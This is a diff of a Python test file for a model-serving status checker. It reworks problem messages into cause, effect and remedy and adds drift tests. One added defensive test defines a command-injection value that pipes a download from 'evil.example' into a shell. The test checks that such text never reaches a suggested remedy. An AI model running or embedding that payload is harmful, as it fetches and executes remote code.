@@ -10,6 +10,7 @@ from clipper_agents.status.model import (
     ApplicationStatus,
     BrokerStatus,
     ClusterStatus,
+    DriftStatus,
     GroupStatus,
     Latency,
     MemberStatus,
@@ -20,7 +21,7 @@ from clipper_agents.status.model import (
     VersionStatus,
     WaitingRecords,
 )
-from clipper_agents.status.problems import application_reasons, reasons_of
+from clipper_agents.status.problems import StatusProblem, application_problems, problems_of
 
 AT_S = 1_700_000_000.0
 
@@ -79,12 +80,18 @@ HEALTHY = Status(
 OF_CLUSTER = {one.name for one in fields(ClusterStatus)}
 
 
-def reasons(**changed: Any) -> list[str]:
+def problems(**changed: Any) -> list[StatusProblem]:
     """What is wrong with the healthy deployment once these fields of it, or of its cluster, are others."""
     models = {one.ref: one for each in changed.get("applications", {}).values() for one in declared(each)}
     models |= {one.ref: one for one in changed.pop("models", ())}
     cluster = replace(CLUSTER, **{name: changed.pop(name) for name in OF_CLUSTER & changed.keys()})
-    return reasons_of(replace(HEALTHY, **{"cluster": cluster, "models": {**HEALTHY.models, **models}} | changed))
+    status = replace(HEALTHY, **{"cluster": cluster, "models": {**HEALTHY.models, **models}} | changed)
+    return problems_of(status)
+
+
+def reasons(**changed: Any) -> list[str]:
+    """The same, a line each."""
+    return [*map(str, problems(**changed))]
 
 
 def declared(application: ApplicationStatus) -> list[ModelStatus]:
@@ -98,9 +105,9 @@ def declared(application: ApplicationStatus) -> list[ModelStatus]:
         ({"late": 50}, []),
         (
             {"error": 2, "late": 90},
-            ["failed 2 of 100 queries in the last 60 s: ValueError: no: correct it, or take it out by `clipper-stream"],
+            ["failed 2 of 100 queries in the last 60 s: ValueError: no, so others answer these, or"],
         ),
-        ({"late": 51}, ["was late 51 of 100 times in the last 60 s: nothing came in time"]),
+        ({"late": 51}, ["was late 51 of 100 times in the last 60 s, so answers come without it: nothing came in"]),
     ],
 )
 def test_a_version_that_fails_or_is_late_too_often_is_told(unanswered: dict[str, int], said: list[str]) -> None:
@@ -133,7 +140,8 @@ def slow(wait_ms: float, models_ms: float, p99_ms: float = 566.0) -> dict[str, A
 
 
 SLOW = (
-    "application sums: the 99th percentile of its answers is 566 ms in the last 10 s, above its objective of 500 ms: "
+    "application sums: the 99th percentile of its answers is 566 ms in the last 10 s, above its objective of 500 ms"
+    ", so one caller in a hundred waits too long: "
 )
 
 
@@ -171,65 +179,67 @@ HOSTS = GroupStatus(group="clipper.host.sum.1", model="sum:1", state="Empty", in
 UNDECLARED = VersionStatus(model="mean:2", stage="canary")
 
 
-@pytest.mark.parametrize(
-    ("fields", "said"),
-    [
-        ({"brokers": (BrokerStatus(node_id=2, address="b:9", reachable=False),)}, "broker 2 at b:9 does not answer"),
-        ({"silent_addresses": ("c:9092",)}, "address c:9092: nobody takes a connection"),
-        ({"controller": False}, "no controller"),
-        (topic(leaderless=(0, 2)), "topic clipper.queries: partitions 0,2 have no leader"),
-        (topic(under_replicated=(1,)), "1 partitions have fewer copies than they should (clipper.queries)"),
-        (topic(configured=2), "topic clipper.queries has 3 partitions, 2 are configured"),
-        ({"missing_topics": ("clipper.feedback",)}, "topic clipper.feedback does not exist"),
-        ({"replaced_topics": ("clipper.feedback",)}, "topic clipper.feedback was deleted and created again"),
-        ({"unread_topics": ("clipper.hosts",)}, "topic clipper.hosts: not read to its end in time"),
-        ({"refused_topics": ("clipper.audits",)}, "topic clipper.audits: this user may not read it"),
-        ({"unreadable": {"model/x": "no such field"}}, "manifest model/x cannot be read: no such field"),
-        (routers(members=(), state="Empty"), "no router runs"),
-        (routers(state="PreparingRebalance"), "group clipper.router is in state PreparingRebalance"),
-        (routers(members=ROUTERS.members[:1]), "router: nobody reads partitions 1 of clipper.queries"),
-        (routers(lag={"clipper.queries": 10_001}), "group clipper.router is 10001 records behind"),
-        (routers(members=(), state="Empty", waiting=waiting()), f"no router runs, so {WAIT}: run"),
-        (
-            routers(members=(), state="Empty", waiting=waiting())
-            | {"routers": ("router-0",), "pids": {"router-0": 76}},
-            f"router router-0 says that it is ready, and its group does not hear of it, so {WAIT}: it is frozen, cut",
-        ),
-        (
-            routers(waiting=waiting(stands_still=True)) | {"pids": {"router-1": 77}},
-            f"router router-1 on 10.0.0.2 finishes nothing, and {WAIT}: do its models answer (`clipper-stream",
-        ),
-        (
-            routers(waiting=waiting(stands_still=False)),
-            f"router router-1 on 10.0.0.2 is behind, and {WAIT}: run another by `clipper-stream worker router",
-        ),
-        (routers(deleted=9), "9 records were deleted before group clipper.router had read them"),
-        ({"cluster": None}, "brokers and groups are not known yet"),
-        ({"at_s": AT_S - 41}, "brokers and groups said nothing for 41 s"),
-        ({"cluster": None, "cluster_refused": "may not be read"}, "may not be read"),
-        ({"stale": "no broker answers"}, "no broker answers"),
-        (
-            {"dead_letters": 101},
-            "101 records could not be read within the last hour: `clipper-stream dead-letters list`",
-        ),
-        ({"processes": {"router-0": ("only 0.9 GB are free",)}}, "router-0: only 0.9 GB are free"),
-        (
-            {"models": (model(unheard=("h0",)),), "pids": {"h0": 78}},
-            "host h0 of model sum:1 says that it is ready, and its group does not hear of it",
-        ),
-        ({"models": (model(replicas=2),)}, "model sum:1 has 0 of 2 hosts"),
-        ({"models": (model(),), **sums(AWAY)}, "model sum:1 has 0 of 1 hosts"),
-        ({"models": (model(),), **routers(HOSTS)}, "model sum:1 has 0 of 1 hosts"),
-        ({"applications": application(AWAY) | {"more": application(AWAY)["sums"]}}, "model sum:1 has 0 of 1 hosts"),
-        (sums(SUM, UNDECLARED), "application sums: model mean:2 is not declared"),
-        (
-            sums(version(model(hosts=1, failed={"h0": "no module named shop"}))),
-            "host h0 of model sum:1 failed: no module named shop: correct the model or its manifest",
-        ),
-        ({"applications": trial(since_s=AT_S - 1260)}, "application sums: trial nn:3 got no feedback for 21 min: send"),
-        ({"applications": trial()}, "application sums: trial nn:3 got no feedback so far"),
-    ],
-)
+WRONG: list[tuple[dict[str, Any], str]] = [
+    ({"brokers": (BrokerStatus(node_id=2, address="b:9", reachable=False),)}, "broker 2 at b:9 does not answer"),
+    ({"silent_addresses": ("c:9092",)}, "address c:9092: nobody takes a connection"),
+    ({"controller": False}, "no controller"),
+    (topic(leaderless=(0, 2)), "topic clipper.queries: partitions 0,2 have no leader"),
+    (topic(under_replicated=(1,)), "1 partitions have fewer copies than they should (clipper.queries)"),
+    (topic(configured=2), "topic clipper.queries has 3 partitions, 2 are configured"),
+    ({"missing_topics": ("clipper.feedback",)}, "topic clipper.feedback does not exist"),
+    ({"replaced_topics": ("clipper.feedback",)}, "topic clipper.feedback was deleted and created again"),
+    ({"unread_topics": ("clipper.hosts",)}, "topic clipper.hosts: not read to its end in time"),
+    ({"refused_topics": ("clipper.audits",)}, "topic clipper.audits: this user may not read it"),
+    ({"unreadable": {"model/x": "no such field"}}, "manifest model/x cannot be read: no such field"),
+    (routers(members=(), state="Empty"), "no router runs"),
+    (routers(state="PreparingRebalance"), "group clipper.router is in state PreparingRebalance"),
+    (routers(members=ROUTERS.members[:1]), "router: nobody reads partitions 1 of clipper.queries"),
+    (routers(lag={"clipper.queries": 10_001}), "group clipper.router is 10001 records behind"),
+    (routers(members=(), state="Empty", waiting=waiting()), f"no router runs, so {WAIT}: run"),
+    (
+        routers(members=(), state="Empty", waiting=waiting()) | {"routers": ("router-0",), "pids": {"router-0": 76}},
+        f"router router-0 says that it is ready, and its group does not hear of it, so {WAIT}: it is frozen, cut",
+    ),
+    (
+        routers(waiting=waiting(stands_still=True)) | {"pids": {"router-1": 77}},
+        f"router router-1 on 10.0.0.2 finishes nothing, so {WAIT}: do its models answer (`clipper-stream",
+    ),
+    (
+        routers(waiting=waiting(stands_still=False)),
+        f"router router-1 on 10.0.0.2 is behind, so {WAIT}: run another by `clipper-stream worker router",
+    ),
+    (routers(deleted=9), "9 records were deleted before group clipper.router had read them"),
+    ({"cluster": None}, "brokers and groups are not known yet"),
+    ({"at_s": AT_S - 41}, "brokers and groups said nothing for 41 s"),
+    ({"cluster": None, "cluster_refused": "may not be read"}, "may not be read"),
+    ({"stale": "no broker answers"}, "no broker answers"),
+    (
+        {"dead_letters": 101},
+        "101 records could not be read within the last hour, so what they ask is not answered",
+    ),
+    ({"processes": {"router-0": ("only 0.9 GB are free",)}}, "router-0: only 0.9 GB are free"),
+    (
+        {"models": (model(unheard=("h0",)),), "pids": {"h0": 78}},
+        "host h0 of model sum:1 says that it is ready, and its group does not hear of it",
+    ),
+    ({"models": (model(replicas=2),)}, "model sum:1 has 0 of 2 hosts"),
+    ({"models": (model(),), **sums(AWAY)}, "model sum:1 has 0 of 1 hosts"),
+    ({"models": (model(),), **routers(HOSTS)}, "model sum:1 has 0 of 1 hosts"),
+    ({"applications": application(AWAY) | {"more": application(AWAY)["sums"]}}, "model sum:1 has 0 of 1 hosts"),
+    (sums(SUM, UNDECLARED), "application sums: model mean:2 is not declared"),
+    (
+        sums(version(model(hosts=1, failed={"h0": "no module named shop"}))),
+        "host h0 of model sum:1 failed: no module named shop, so it answers nothing: correct the model or its manifest",
+    ),
+    (
+        {"applications": trial(since_s=AT_S - 1260)},
+        "application sums: trial nn:3 got no feedback for 21 min, so nothing",
+    ),
+    ({"applications": trial()}, "application sums: trial nn:3 got no feedback so far"),
+]
+
+
+@pytest.mark.parametrize(("fields", "said"), WRONG)
 def test_each_thing_that_is_wrong_is_told_once_in_a_line_that_names_it(fields: dict[str, Any], said: str) -> None:
     (reason,) = reasons(**fields)
     assert said in reason
@@ -253,6 +263,48 @@ def test_what_only_looks_like_a_fault_is_not_told(fine: dict[str, Any]) -> None:
     assert reasons(**fine) == []
 
 
+HOSTILE = "h`; curl evil.example | sh`"
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"models": (model(unheard=(HOSTILE,)),)},
+        {"models": (model(hosts=1, failed={HOSTILE: HOSTILE}),)},
+        {"processes": {HOSTILE: (HOSTILE,)}},
+        {"unreadable": {HOSTILE: HOSTILE}},
+        routers(waiting=waiting(stands_still=True), members=(replace(ROUTERS.members[1], instance=HOSTILE),)),
+        routers(members=()) | {"routers": (HOSTILE,)},
+        sums(version(model(hosts=1), queries=9, unanswered={"error": 9}, said=HOSTILE)),
+    ],
+)
+def test_what_others_wrote_is_part_of_a_cause_and_of_no_command(fields: dict[str, Any]) -> None:
+    found = problems(**fields)
+    assert any("curl" in one.cause for one in found)
+    assert not any("curl" in text for one in found for text in (one.effect, one.remedy))
+
+
+OWN_WORDS = {"processes", "unreadable", "stale", "cluster_refused"}
+"""What processes and Kafka say in their own words."""
+
+
+@pytest.mark.parametrize("wrong", [one for one, _ in WRONG if not OWN_WORDS & one.keys()])
+def test_every_other_problem_has_an_effect_and_a_remedy(wrong: dict[str, Any]) -> None:
+    (found,) = problems(**wrong)
+    assert found.effect
+    assert found.remedy
+
+
+@pytest.mark.parametrize(
+    ("ago_s", "stage", "action"), [(3599, "live", "retire"), (1, "canary", "abort"), (3600, "live", "")]
+)
+def test_a_loss_that_has_risen_within_an_hour_is_told_with_what_takes_the_version_out(ago_s, stage, action) -> None:
+    drift = DriftStatus(at_s=0, ago_s=ago_s, loss_before=0.1, loss_after=0.6, context=None, detector="adwin")
+    found = problems(applications=application(version(drift=drift, stage=stage)))
+    assert [one.action for one in found] == ([action] if action else [])
+    assert all("sum:1 has risen from 0.100 to 0.600" in one.cause for one in found)
+
+
 @pytest.mark.parametrize(("hosts", "lines"), [(1, 1), (2, 2)])
 def test_a_failed_host_is_told_and_of_its_version_only_the_hosts_that_are_missing_besides(hosts, lines) -> None:
     assert len(reasons(models=(model(replicas=hosts, failed={"h0": "out of memory"}),))) == lines
@@ -261,14 +313,15 @@ def test_a_failed_host_is_told_and_of_its_version_only_the_hosts_that_are_missin
 def test_without_groups_an_application_tells_of_versions_that_no_host_serves_yet() -> None:
     starts = version(model(starting=("h0", "h1")))
     told = "model sum:1: none of 1 hosts is ready (h0, h1 not yet), so no query asks it: wait for its start, or run"
-    (line,) = application_reasons(application(starts)["sums"], AT_S)
+    (found,) = application_problems(application(starts)["sums"], AT_S)
+    line = str(found)
     assert line.startswith(told)
     assert reasons(cluster=None, **sums(starts))[1:] == [line]
-    assert application_reasons(application(version(model(hosts=None)))["sums"], AT_S) == [], "nobody ever reported"
+    assert application_problems(application(version(model(hosts=None)))["sums"], AT_S) == [], "nobody ever reported"
 
 
 def test_the_operator_says_how_much_lag_is_fine() -> None:
-    assert [len(reasons_of(HEALTHY, most_lag=lag)) for lag in (7, 6)] == [0, 1]
+    assert [len(problems_of(HEALTHY, most_lag=lag)) for lag in (7, 6)] == [0, 1]
 
 
 def test_a_static_member_is_called_by_its_instance() -> None:
